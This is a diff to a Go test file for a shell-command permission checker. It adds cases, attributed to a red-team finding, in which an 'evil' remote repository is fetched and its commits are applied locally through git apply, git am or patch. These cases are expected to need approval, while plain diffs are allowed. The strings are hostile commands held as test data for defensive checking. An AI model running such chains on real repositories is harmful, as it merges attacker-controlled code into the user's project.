@@ -69,6 +69,13 @@ func TestGitFetchLocal(t *testing.T) {
 		{"git -c remote.x.url=" + evil + " fetch x master:ev; git checkout ev", "ask"},
 		{"git remote add y " + evil + " && git fetch y && git merge y/master", "ask"},
 		{"git config remote.z.url " + evil + " && git pull z master", "ask"},
+		// Its commits as a diff or mails applied here (red team 18 GA3).
+		{"git fetch " + evil + " master && git diff HEAD FETCH_HEAD | git apply", "ask"},
+		{"git fetch " + evil + " master && git show FETCH_HEAD | git apply", "ask"},
+		{"git fetch " + evil + " master && git format-patch -1 --stdout FETCH_HEAD | git am", "ask"},
+		{"git fetch " + evil + " master && git diff HEAD..FETCH_HEAD | patch -p1", "ask"},
+		{"git fetch " + evil + " master && git diff HEAD FETCH_HEAD", "allow"},
+		{"git fetch " + evil + " master && git diff HEAD FETCH_HEAD > review.diff", "allow"},
 		{"git remote add up https://example.invalid/up.git && git fetch up && git log up/main", "allow"},
 		{"git fetch nosuch && git merge nosuch/main", "allow"}, // no such remote or directory: git fails
 		// A pull of a local repository: a fetch and a merge in one step.
